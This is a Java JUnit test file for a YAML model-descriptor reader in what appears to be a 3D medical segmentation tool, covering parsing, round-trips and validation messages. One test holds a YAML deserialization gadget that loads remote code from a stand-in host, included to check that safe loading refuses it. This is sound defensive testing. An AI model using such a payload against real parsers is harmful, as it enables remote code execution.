package org.volseg.model;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertNotSame;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertSame;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.volseg.tiling.BlendMode;

class DescriptorReaderTest {

	@TempDir
	Path tmp;

	static String example() throws IOException {
		try (InputStream in = DescriptorReaderTest.class.getResourceAsStream("/model/example-rdf.yaml")) {
			return new String(in.readAllBytes(), StandardCharsets.UTF_8);
		}
	}

	@Test
	void readsTheDocumentedExample() throws IOException {
		ModelDescriptor d = DescriptorReader.parse(example(), "example-rdf.yaml");
		assertEquals("UNETR abdominal CT (liver, kidneys, spleen)", d.name());
		assertEquals("0.5.4", d.formatVersion());
		assertEquals(2, d.authors().size());
		assertEquals("Example Imaging Lab", d.authors().get(0).affiliation());
		assertEquals("input", d.input().id());
		assertEquals(1, d.input().channels());
		assertEquals(4, d.output().channels());
		assertEquals(new AxisSize.Fixed(96), d.input().axis("y").orElseThrow().size());
		assertEquals(new AxisSize.Reference("input", "z", 0), d.output().axis("z").orElseThrow().size());
		assertEquals(List.of(new Preprocessing.Clip(-175, 250), new Preprocessing.ZeroMeanUnitVariance(
				Preprocessing.Mode.FIXED, List.of(), List.of(38.5), List.of(95.2), 1e-6)), d.input().preprocessing());
		assertEquals(new SavedModelWeights("saved_model", "2.18"), d.weights());
		VolSegConfig c = d.volseg();
		assertEquals(List.of(1.5, 1.5, 2.0), c.targetSpacingMm());
		assertEquals("RAS", c.targetOrientation());
		assertEquals(List.of(96, 96, 96), c.patchSize());
		assertEquals(0.5, c.overlap());
		assertEquals(BlendMode.GAUSSIAN, c.blendMode());
		assertEquals(OutputActivation.SOFTMAX, c.outputActivation());
		assertEquals(new SegmentationClass(1, "liver", 221, 130, 101), c.classes().get(1));
		assertEquals(0xDD8265, c.classes().get(1).rgb());
		assertEquals("unetr", c.network().architecture());
		assertEquals(List.of(96, 96, 96), c.network().config().get("img_size"));
		assertEquals("conv", c.network().config().get("proj_type"));
	}

	/**
	 * A descriptor read twice from the same text is the same object (the command line reads a package's
	 * descriptor before the model loads, then the load reads it again); other text or another name, a new one.
	 */
	@Test
	void theSameTextReadAgainGivesTheSameDescriptor() throws IOException {
		String text = example();
		ModelDescriptor first = DescriptorReader.parse(text, "a/rdf.yaml");
		assertSame(first, DescriptorReader.parse(new String(text.toCharArray()), "a/rdf.yaml"));
		ModelDescriptor renamed = DescriptorReader.parse(text, "b/rdf.yaml");
		assertNotSame(first, renamed);
		assertEquals(first, renamed);
		ModelDescriptor changed = DescriptorReader.parse(text.replace("UNETR abdominal CT (liver, kidneys, spleen)", "Another model"), "b/rdf.yaml");
		assertNotEquals(renamed.name(), changed.name());
		assertThrows(ModelPackageException.class, () -> DescriptorReader.parse("just text", "b/rdf.yaml"));
		assertSame(changed, DescriptorReader.parse(text.replace("UNETR abdominal CT (liver, kidneys, spleen)", "Another model"), "b/rdf.yaml"),
				"a failed read leaves the last good one");
	}

	@Test
	void writerOutputReadsBackEqual() throws IOException {
		ModelDescriptor d = DescriptorReader.parse(example(), "example");
		String yaml = DescriptorWriter.toYaml(d);
		assertEquals(d, DescriptorReader.parse(yaml, "written"));
		// and to a file, atomically, with no temporary file left
		Path f = tmp.resolve("rdf.yaml");
		DescriptorWriter.write(d, f);
		assertEquals(d, DescriptorReader.read(f));
		try (var s = Files.list(tmp)) {
			assertEquals(1, s.count());
		}
	}

	@Test
	void builderDescriptorsRoundTripWithEveryPreprocessingStep() {
		ModelDescriptor d = ModelDescriptor.builder().name("MRI brain").inputChannelNames(List.of("T1", "FLAIR"))
				.preprocessing(new Preprocessing.ScaleLinear(List.of(1.0, 2.0), List.of(0.5), "channel"))
				.preprocessing(new Preprocessing.ScaleRange(Preprocessing.Mode.PER_SAMPLE, List.of("x", "y", "z"), 0.5,
						99.5, 1e-6))
				.preprocessing(new Preprocessing.ZeroMeanUnitVariance(Preprocessing.Mode.PER_SAMPLE, List.of("x", "y", "z"),
						List.of(), List.of(), 1e-6))
				.normalizationRegion(NormalizationRegion.FOREGROUND).patchSize(64, 64, 32).fixedPatchSize(false)
				.outputActivation(OutputActivation.SIGMOID).blendMode(BlendMode.CONSTANT).overlap(0.25)
				.addClass(1, "lesion", 255, 0, 0)
				.network(new NetworkSpec("segformer3d", Map.of("in_channels", 2, "embed_dims", List.of(32, 64))))
				.build();
		ModelDescriptor back = DescriptorReader.parse(DescriptorWriter.toYaml(d), "written");
		assertEquals(d, back);
		assertNull(back.volseg().targetSpacingMm());
		assertEquals(new AxisSize.Parameterized(1, 1), back.input().axis("x").orElseThrow().size());
	}

	@Test
	void monaiIntensityStepsRoundTripWithTheirOwnArgumentsAndBadValuesAreNamed() throws IOException {
		ModelDescriptor d = ModelDescriptor.builder().name("wholebody").inputChannels(1)
				.preprocessing(new Preprocessing.NormalizeIntensity(true, false))
				.preprocessing(new Preprocessing.ScaleIntensity(-1, 1, false))
				.preprocessing(new Preprocessing.ScaleIntensityRange(-57, 164, 0, 1, true)).patchSize(96, 96, 96)
				.outputActivation(OutputActivation.SOFTMAX).addClass(0, "background", 0, 0, 0).build();
		String yaml = DescriptorWriter.toYaml(d);
		assertTrue(yaml.contains("id: monai_normalize_intensity") && yaml.contains("nonzero: true")
				&& yaml.contains("a_min: -57.0"), yaml);
		assertEquals(d, DescriptorReader.parse(yaml, "written"));
		// an older package (no MONAI steps, normalization_region as before) reads unchanged
		assertEquals(NormalizationRegion.VOLUME, DescriptorReader.parse(example(), "example").volseg().normalizationRegion());
		String bad = example().replace("id: zero_mean_unit_variance\n        kwargs:",
				"id: monai_normalize_intensity\n        kwargs:\n          nonzero: maybe\n          channel_wise: false\n        old_kwargs:");
		ModelPackageException e = assertThrows(ModelPackageException.class, () -> DescriptorReader.parse(bad, "rdf.yaml"));
		assertEquals(List.of("inputs[0].preprocessing[1].kwargs.nonzero: expected true or false, got \"maybe\""), e.problems());
		String noMin = example().replace("id: zero_mean_unit_variance\n        kwargs:",
				"id: monai_scale_intensity_range\n        kwargs:\n          a_max: 3\n          b_min: 0\n          b_max: 1\n        old_kwargs:");
		ModelPackageException e2 = assertThrows(ModelPackageException.class, () -> DescriptorReader.parse(noMin, "rdf.yaml"));
		assertEquals(List.of("inputs[0].preprocessing[1].kwargs.a_min: missing (required)"), e2.problems());
		// the crop step: one integer or three per axis, MONAI's defaults, at most one
		String crop = example().replace("id: zero_mean_unit_variance\n        kwargs:",
				"id: monai_crop_foreground\n        kwargs:\n          margin: 5\n          k_divisible: [16, 16, 8]\n        old_kwargs:");
		assertEquals(new Preprocessing.CropForeground(List.of(5, 5, 5), List.of(16, 16, 8), true),
				DescriptorReader.parse(crop, "rdf.yaml").input().preprocessing().get(1));
		String twoCrops = crop.replace("      - id: monai_crop_foreground",
				"      - id: monai_crop_foreground\n      - id: monai_crop_foreground");
		ModelPackageException e3 = assertThrows(ModelPackageException.class, () -> DescriptorReader.parse(twoCrops, "rdf.yaml"));
		assertEquals(List.of("inputs[0].preprocessing: more than one monai_crop_foreground step (VolSeg crops once)"), e3.problems());
	}

	@Test
	void testTimeMirroringIsAModelDefaultThatRoundTrips() throws IOException {
		ModelDescriptor plain = DescriptorReader.parse(example(), "example");
		assertEquals(List.of(), plain.volseg().ttaAxes());
		ModelDescriptor d = DescriptorReader.parse(example().replace("overlap: 0.5", "overlap: 0.5\n    tta: flips\n    tta_axes: [z, x]"),
				"example");
		assertEquals(List.of("z", "x"), d.volseg().ttaAxes());
		assertTrue(DescriptorWriter.toYaml(d).contains("tta: flips"));
		assertEquals(d, DescriptorReader.parse(DescriptorWriter.toYaml(d), "written"));
		ModelDescriptor all = DescriptorReader.parse(example().replace("overlap: 0.5", "overlap: 0.5\n    tta: flips"), "e");
		assertEquals(List.of("x", "y", "z"), all.volseg().ttaAxes());
		ModelPackageException e = assertThrows(ModelPackageException.class, () -> DescriptorReader.parse(
				example().replace("overlap: 0.5", "overlap: 0.5\n    tta: mirror\n    tta_axes: [x, w]"), "rdf.yaml"));
		assertEquals(List.of("config.volseg.tta: expected none or flips, got \"mirror\""), e.problems());
		ModelPackageException e2 = assertThrows(ModelPackageException.class, () -> DescriptorReader.parse(
				example().replace("overlap: 0.5", "overlap: 0.5\n    tta: flips\n    tta_axes: [x, w]"), "rdf.yaml"));
		assertEquals(1, e2.problems().size());
		assertTrue(e2.problems().get(0).startsWith("config.volseg.tta_axes: expected distinct axes among x, y, z"),
				e2.problems().toString());
	}

	@Test
	void listsEveryProblemNamingItsField() throws IOException {
		String bad = example()
				.replace("        size: 96\n        unit: millimeter\n      - type: space\n        id: z",
						"        size: -3\n        unit: millimeter\n      - type: space\n        id: z")
				.replace("license: Apache-2.0\n", "")
				.replace("overlap: 0.5", "overlap: 1.5")
				.replace("color: [221, 130, 101]", "color: [221, 300, 101]")
				.replace("output_activation: softmax", "output_activation: relu")
				.replace("id: zero_mean_unit_variance", "id: binarize");
		ModelPackageException e = assertThrows(ModelPackageException.class, () -> DescriptorReader.parse(bad, "rdf.yaml"));
		assertEquals(List.of(
				"license: missing (required)",
				"inputs[0].axes[2].size: expected a positive integer, got -3",
				"inputs[0].preprocessing[1].id: expected one of clip, scale_linear, scale_range, "
						+ "zero_mean_unit_variance, fixed_zero_mean_unit_variance, monai_normalize_intensity, "
						+ "monai_scale_intensity, monai_scale_intensity_range, monai_crop_foreground, got \"binarize\"",
				"config.volseg.overlap: expected a number in [0, 1), got 1.5",
				"config.volseg.output_activation: expected one of softmax, sigmoid, none, got \"relu\"",
				"config.volseg.classes[1].color[1]: expected an integer in 0..255, got 300"), e.problems());
		assertTrue(e.getMessage().startsWith("rdf.yaml: 6 problems:"), e.getMessage());
	}

	@Test
	void semanticProblemsAreListedTogether() throws IOException {
		String bad = example()
				.replace("patch_size: [96, 96, 96]", "patch_size: [96, 64, 96]")
				.replace("      - {label: 3, name: spleen, color: [157, 108, 162]}\n", "")
				.replace("target_orientation: RAS", "target_orientation: RRS")
				.replace("source: saved_model", "source: ../elsewhere")
				.replace("std: 95.2", "std: [95.2, 3.0]");
		ModelPackageException e = assertThrows(ModelPackageException.class, () -> DescriptorReader.parse(bad, "rdf.yaml"));
		assertEquals(List.of(
				"config.volseg.target_orientation: expected a three-letter orientation code such as RAS or LPS "
						+ "(one of R/L, one of A/P, one of S/I), got \"RRS\"",
				"inputs[0].preprocessing[1].kwargs.std: expected one value, or one per channel (1), got 2 values",
				"weights.tensorflow_saved_model_bundle.source: expected a folder inside the package, relative to "
						+ "rdf.yaml, got \"../elsewhere\""), e.problems());
		String bad2 = example().replace("patch_size: [96, 96, 96]", "patch_size: [96, 64, 96]")
				.replace("      - {label: 3, name: spleen, color: [157, 108, 162]}\n", "");
		ModelPackageException e2 = assertThrows(ModelPackageException.class, () -> DescriptorReader.parse(bad2, "r"));
		assertEquals(List.of("config.volseg.patch_size[1]: 64 does not fit inputs[0].axes[2].size (96)",
				"config.volseg.classes: expected one class per output channel (4 in outputs[0]), got 3"), e2.problems());
	}

	@Test
	void axisLayoutProblems() throws IOException {
		String bad = example().replaceFirst("      - type: space\n        id: x\n        size: 96\n        unit: millimeter\n", "")
				.replaceFirst("id: y\n        size: 96", "id: w\n        size: 96");
		ModelPackageException e = assertThrows(ModelPackageException.class, () -> DescriptorReader.parse(bad, "r"));
		assertEquals("inputs[0].axes[1].id: expected x, y or z for a space axis, got \"w\"", e.problems().get(0));
		assertTrue(e.problems().get(1).startsWith("inputs[0].axes: expected 5 axes: one batch, one channel and the "
				+ "space axes x, y, z (in any order; VolSeg segments 3D volumes), got [batch, w, z, channel]"),
				e.problems().get(1));
	}

	@Test
	void yamlThatIsNotAMappingIsRefused() {
		ModelPackageException e = assertThrows(ModelPackageException.class,
				() -> DescriptorReader.parse("- a\n- b\n", "rdf.yaml"));
		assertEquals("rdf.yaml: expected a YAML mapping (key: value lines) at the top level, got a list", e.getMessage());
		e = assertThrows(ModelPackageException.class, () -> DescriptorReader.parse("", "rdf.yaml"));
		assertTrue(e.getMessage().endsWith("got an empty document"));
		e = assertThrows(ModelPackageException.class, () -> DescriptorReader.parse("name: [unclosed\n", "rdf.yaml"));
		assertTrue(e.getMessage().startsWith("rdf.yaml: not valid YAML:"), e.getMessage());
	}

	@Test
	void safeLoadingRefusesJavaTypeTags() {
		String hostile = "name: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL "
				+ "[\"http://example.invalid/\"]]]]\n";
		ModelPackageException e = assertThrows(ModelPackageException.class, () -> DescriptorReader.parse(hostile, "rdf.yaml"));
		assertTrue(e.getMessage().contains("not valid YAML"), e.getMessage());
	}

	@Test
	void missingFileIsAClearError() {
		ModelPackageException e = assertThrows(ModelPackageException.class,
				() -> DescriptorReader.read(tmp.resolve("rdf.yaml")));
		assertTrue(e.getMessage().endsWith("rdf.yaml: file not found: a model package needs an rdf.yaml at its root "
				+ "(see docs/model-format.md)"), e.getMessage());
	}

	@Test
	void acceptsBioimageIo04StyleFieldsWhereUnambiguous() throws IOException {
		String old = example().replace("      - id: clip\n", "      - name: clip\n")
				.replace("    data:\n      type: float32\n    preprocessing", "    data_type: float32\n    preprocessing");
		ModelDescriptor d = DescriptorReader.parse(old, "old");
		assertEquals(new Preprocessing.Clip(-175, 250), d.input().preprocessing().get(0));
	}
}
